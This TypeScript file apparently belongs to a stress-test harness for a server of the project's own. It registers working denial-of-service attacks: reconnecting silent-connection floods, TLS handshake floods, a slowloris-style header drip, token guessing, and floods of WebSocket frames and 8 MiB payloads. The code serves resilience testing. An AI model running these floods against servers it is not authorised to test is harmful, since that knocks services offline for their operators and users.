/** One attack in a process of its own, for as long as it is let: `attack.ts <name> <endpoint as JSON> <token>`. */
import { once } from 'node:events';
import { adminAttacks } from './admin-attacks.ts';
import { deepNesting, manyKeys, wideEntries } from './payloads.ts';
import {
  addressOf,
  type Endpoint,
  frame,
  inParallel,
  message,
  openPrimary,
  openTcp,
  openTls,
  textFrame,
  writeWithoutEnd,
} from './wire.ts';

type Attack = (endpoint: Endpoint, token: string) => Promise<unknown>;

const maxPayloadBytes = 8 * 1024 * 1024;

/** A thousand silent connections, each of which comes again when it is cut. */
const silent: Attack = (endpoint) =>
  inParallel(1000, 1000, async (n) => {
    for (;;) await closed(await openTcp(endpoint, addressOf(n % 250)).catch(() => null));
  });

/** Whole TLS handshakes from a thousand addresses, as fast as this process makes them. */
const handshakes: Attack = (endpoint) =>
  inParallel(1_000_000, 20, async (n) => {
    const socket = await openTls(endpoint, addressOf(n % 64_000)).catch(() => null);
    socket?.destroy();
  });

/** Whole handshakes of one address that ask for nothing, as a balancer's health checks do, as fast as they are taken. */
const checks: Attack = (endpoint) =>
  inParallel(1_000_000, 20, async () => {
    const socket = await openTls(endpoint, '127.0.0.9').catch(() => null);
    if (socket === null) return;
    // The server's tickets come when it has the last of our handshake.
    await Promise.race([once(socket.resume(), 'session'), closed(socket)]);
    socket.destroy();
  });

/** Three primaries that send the same bytes without end, and read nothing unless told. */
const floods =
  (make: () => Buffer, reads = true): Attack =>
  async (endpoint, token) => {
    const bytes = make();
    const flood = async (): Promise<never> => {
      for (;;) {
        const socket = await openPrimary(endpoint, token, '127.0.0.9');
        if (!reads) socket.pause();
        writeWithoutEnd(socket, bytes);
        await closed(socket);
      }
    };
    await Promise.all([flood(), flood(), flood()]);
  };

const repeated = (bytes: Buffer): Buffer =>
  Buffer.concat(Array<Buffer>(Math.ceil(65_536 / bytes.length)).fill(bytes));

export const attacks: Readonly<Record<string, Attack>> = {
  nothing: () => Promise.resolve(),
  '1,000 silent connections': silent,
  'handshake flood': handshakes,
  'handshakes of one address': checks,
  'both of them': (endpoint, token) => Promise.all([silent(endpoint, token), handshakes(endpoint, token)]),
  'slow headers': (endpoint) =>
    inParallel(1000, 200, async (n) => {
      for (;;) {
        const socket = await openTls(endpoint, addressOf(n)).catch(() => null);
        socket?.write('GET /nbwss HTTP/1.1\r\nX: ');
        const drip = setInterval(() => socket?.write('x'), 100);
        await closed(socket);
        clearInterval(drip);
      }
    }),
  'wrong tokens': (endpoint) =>
    inParallel(1_000_000, 20, (n) =>
      openPrimary(endpoint, `guess ${n}`, addressOf(n % 64_000)).catch(() => null),
    ),
  pings: floods(() => frame(9, Buffer.alloc(0))),
  'pings, pongs not read': floods(() => repeated(frame(9, Buffer.alloc(125))), false),
  fragments: floods(() => repeated(frame(0, Buffer.from(' '), false))),
  'small messages': floods(() => repeated(textFrame(message('NOTIFICATION', [])))),
  'answers not read': floods(() => repeated(textFrame(message('NOTIFICATION', []))), false),
  'CONNECT again': floods(() => repeated(textFrame(message('CONNECT', { token: '' })))),
  '8 MiB of 20,000 entries': floods(() => textFrame(wideEntries(20_000, maxPayloadBytes))),
  '8 MiB of nesting': floods(() => textFrame(deepNesting(maxPayloadBytes))),
  '8 MiB of keys': floods(() => textFrame(manyKeys(maxPayloadBytes))),
  ...adminAttacks,
};

async function closed(
  socket: { readonly closed: boolean; once(event: 'close', listener: () => void): unknown } | null,
): Promise<void> {
  if (socket !== null && !socket.closed)
    await new Promise<void>((resolve) => void socket.once('close', resolve));
}

const [name = '', endpoint = '{}', token = ''] = process.argv.slice(2);
/** Not where only the names are wanted. */
if (process.send !== undefined) {
  process.on('disconnect', () => process.exit());
  await attacks[name]?.(JSON.parse(endpoint) as Endpoint, token);
}
